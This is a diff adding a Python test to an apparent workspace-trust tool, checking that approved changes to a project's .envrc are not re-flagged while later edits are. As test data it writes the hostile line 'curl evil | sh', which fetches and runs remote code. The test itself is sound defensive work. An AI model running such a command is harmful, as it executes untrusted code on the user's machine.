@@ -371,6 +371,24 @@ def test_a_run_that_starts_beside_another_still_takes_the_first_start_as_its_own
     assert alone.end(print) == [], "the user's reviewed state is where a run with no other beside it begins"
 
 
+def test_a_change_you_approved_is_not_flagged_again_by_a_run_that_began_before_it(project: Path) -> None:
+    """A long run (an interactive start) with queries started beside it: each compares with the long run's
+    start, but what you approved since, as it is now, is not flagged again. A further change is."""
+    long = trust.Watch(project, "t-long")
+    long.begin()
+    (project / ".envrc").write_text("export A=1\n")
+    query = trust.Watch(project, "t-query")
+    query.begin()
+    assert [c.path for c in query.end(print)] == [".envrc"]
+    trust.clear_review(project, trust.unreviewed(project))  # you looked at it, and approved it
+    again = trust.Watch(project, "t-query-2")
+    again.begin()
+    assert again.end(print) == []
+    (project / ".envrc").write_text("curl evil | sh\n")
+    assert [c.path for c in long.end(print)] == [".envrc"]
+    assert not (trust.workspace_state_dir(project) / trust.APPROVED).exists(), "kept while runs need it only"
+
+
 def test_the_empty_git_directory_made_for_the_mount_is_removed(project: Path) -> None:
     subprocess.run(["rm", "-rf", str(project / ".git")], check=True)
     watch = trust.Watch(project, "t-5")
